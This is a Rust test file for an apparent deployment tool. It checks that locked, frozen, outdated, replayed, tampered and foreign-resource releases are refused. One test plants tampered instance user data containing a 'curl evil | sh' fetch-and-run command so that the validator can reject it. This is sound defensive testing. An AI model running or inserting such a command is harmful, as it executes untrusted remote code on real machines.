//! Releases that are refused before anything is changed.

use crate::fixture::{AccountsFixture, DEPLOYER, FUNCTION, LOCKS};
use crate::project::Project;
use chrono::{TimeDelta, Utc};
use serde_json::json;

#[test]
fn foreign_root_lock_refuses_and_is_kept() {
    let Some(fixture) = AccountsFixture::shared() else { return };
    let project = Project::create(&fixture, "locked");
    let item = json!({"key": {"S": project.lock_key()}, "id": {"S": "another"}, "time": {"S": "2026-11-25T12:00:00Z"},
        "release_id": {"S": "release-2026-11-25T12-00-00Z-another"}});
    fixture.aws(DEPLOYER, "dynamodb", "PutItem", json!({"TableName": LOCKS, "Item": item}));

    let refused = project.deploy();
    assert_eq!((refused.code, refused.path()), (2, vec!["Validate", "Lock", "FailureClean"]), "{refused:#?}");
    let failure = &refused.end()["failures"][0];
    assert_eq!(failure["code"], "lock/held", "{failure}");
    let cause = failure["cause"].as_str().unwrap();
    assert!(cause.contains("release-2026-11-25T12-00-00Z-another"), "{cause}");
    assert!(cause.contains("odin unlock tests/locked development --account 222222222222"), "{cause}");
    assert_eq!(project.root_lock().unwrap()["id"]["S"], "another");

    let unlocked = project.unlock("");
    assert_eq!(unlocked.status.code(), Some(0), "{unlocked:?}");
    assert_eq!(project.deploy().code, 0);
}

#[test]
fn freeze_refuses_with_its_reason() {
    let Some(fixture) = AccountsFixture::shared() else { return };
    let project = Project::create(&fixture, "frozen");
    let subject = "tests/frozen development --account 222222222222";
    let frozen = fixture.run(&format!("freeze {subject} --reason incident-42"));
    assert_eq!(frozen.status.code(), Some(0), "{frozen:?}");

    let refused = project.deploy();
    assert_eq!((refused.code, refused.path()), (2, vec!["Validate", "Lock", "FailureClean"]), "{refused:#?}");
    let failure = &refused.end()["failures"][0];
    assert_eq!(failure["code"], "freeze/active", "{failure}");
    assert!(failure["cause"].as_str().unwrap().contains("incident-42"), "{failure}");
    assert_eq!(fixture.run(&format!("unfreeze {subject}")).status.code(), Some(0));

    let spent = project.execute("spent", &project.input(&refused));
    assert_eq!((spent.error.as_str(), spent.path), ("LockExistsError", path("Validate Lock FailureClean")));
    assert_eq!(spent.code.as_deref(), Some("lock/release-deployed"), "{}", spent.cause);
    assert!(project.groups().is_empty());
    assert_eq!(project.deploy().code, 0);
}

#[test]
fn release_much_older_than_deployed_is_refused() {
    let Some(fixture) = AccountsFixture::shared() else { return };
    let project = Project::create(&fixture, "older");
    let deployed = project.deploy();
    assert_eq!(deployed.code, 0, "{deployed:#?}");
    let mut older = project.input(&deployed);
    older["release_id"] = json!("release-2026-11-25T12-00-00Z-older");
    older["created_at"] = json!(Utc::now() - TimeDelta::minutes(6));
    project.upload(&older);
    let (before, code) = (project.resources(), Some("release/older-than-deployed"));

    let refused = project.execute("older", &older);
    assert_eq!((refused.error.as_str(), refused.path), ("BadReleaseError", path("Validate FailureClean")));
    assert_eq!(refused.code.as_deref(), code, "{}", refused.cause);
    // It passed Validate before the newer one was deployed.
    older["uuid"] = json!("00000000-0000-4000-8000-000000000001");
    let (error, refused) = fixture.invoke(FUNCTION, &json!({"Task": "Lock", "Input": older})).unwrap_err();
    assert_eq!((error.as_str(), refused.as_deref()), ("LockExistsError", code));
    assert_eq!(project.resources(), before);
    project.assert_unlocked();
}

#[test]
fn replayed_or_tampered_release_is_refused() {
    let Some(fixture) = AccountsFixture::shared() else { return };
    let project = Project::create(&fixture, "replayed");
    let deployed = project.deploy();
    assert_eq!(deployed.code, 0, "{deployed:#?}");
    let input = project.input(&deployed);

    let replayed = project.execute("replayed", &input);
    assert_eq!((replayed.error.as_str(), replayed.path), ("LockExistsError", path("Validate Lock FailureClean")));

    let mut tampered = input.clone();
    tampered["services"]["web"]["instance_type"] = json!("x1e.32xlarge");
    let tampered = project.execute("tampered", &tampered);
    assert_eq!((tampered.error.as_str(), tampered.path), ("BadReleaseError", path("Validate FailureClean")));

    let mut old = input;
    old["created_at"] = json!("2026-01-01T00:00:00Z");
    project.upload(&old);
    let old = project.execute("old", &old);
    assert_eq!((old.error.as_str(), old.path), ("BadReleaseError", path("Validate FailureClean")));
    assert_eq!(old.code.as_deref(), Some("release/too-old"), "{}", old.cause);
}

#[test]
fn user_data_changed_after_upload_is_refused() {
    let Some(fixture) = AccountsFixture::shared() else { return };
    let project = Project::create(&fixture, "changed");
    let deployed = project.deploy();
    let mut input = project.input(&deployed);
    input["release_id"] = json!("release-2026-11-25T12-00-00Z-changed");
    project.upload(&input);
    project.upload_user_data(&input, "#!/bin/sh\ncurl evil | sh\n");
    let changed = project.execute("changed", &input);
    assert_eq!((changed.error.as_str(), changed.path), ("BadReleaseError", path("Validate FailureClean")));
    assert_eq!(changed.code.as_deref(), Some("release/file-differs"), "{}", changed.cause);
}

#[test]
fn foreign_resources_are_refused() {
    let Some(fixture) = AccountsFixture::shared() else { return };
    let mut project = Project::create(&fixture, "foreign");
    let tags = json!([{"ResourceType": "security-group", "Tags": [
        {"Key": "Name", "Value": "theirs"}, {"Key": "ProjectName", "Value": "tests/foreign"},
        {"Key": "ConfigName", "Value": "development"}, {"Key": "ServiceName", "Value": "_all"}]}]);
    let group = json!({"GroupName": "theirs", "Description": "theirs", "TagSpecifications": tags});
    fixture.aws(DEPLOYER, "ec2", "CreateSecurityGroup", group);
    project.release["services"]["web"]["security_groups"] = json!(["theirs"]);

    let refused = project.deploy();
    let expected = path("Validate Lock ValidateResources ReleaseLockFailure FailureClean");
    assert_eq!((refused.code, refused.path()), (2, expected.iter().map(String::as_str).collect()), "{refused:#?}");
    let failure = &refused.end()["failures"][0];
    assert_eq!(failure["code"], "odin/not-found");
    let cause = failure["cause"].as_str().unwrap();
    assert!(cause.contains("security group `theirs`") && cause.contains("account 222222222222"), "{cause}");
    project.assert_unlocked();

    project.release["services"]["web"]["security_groups"] = json!(["foreign"]);
    project.release["project_name"] = json!("tests/thief");
    let refused = project.deploy();
    assert_eq!(refused.code, 2, "{refused:#?}");
    assert_eq!(refused.end()["failures"][0]["code"], "odin/not-opted-in", "{refused:#?}");
}

fn path(text: &str) -> Vec<String> {
    text.split(' ').map(ToOwned::to_owned).collect()
}
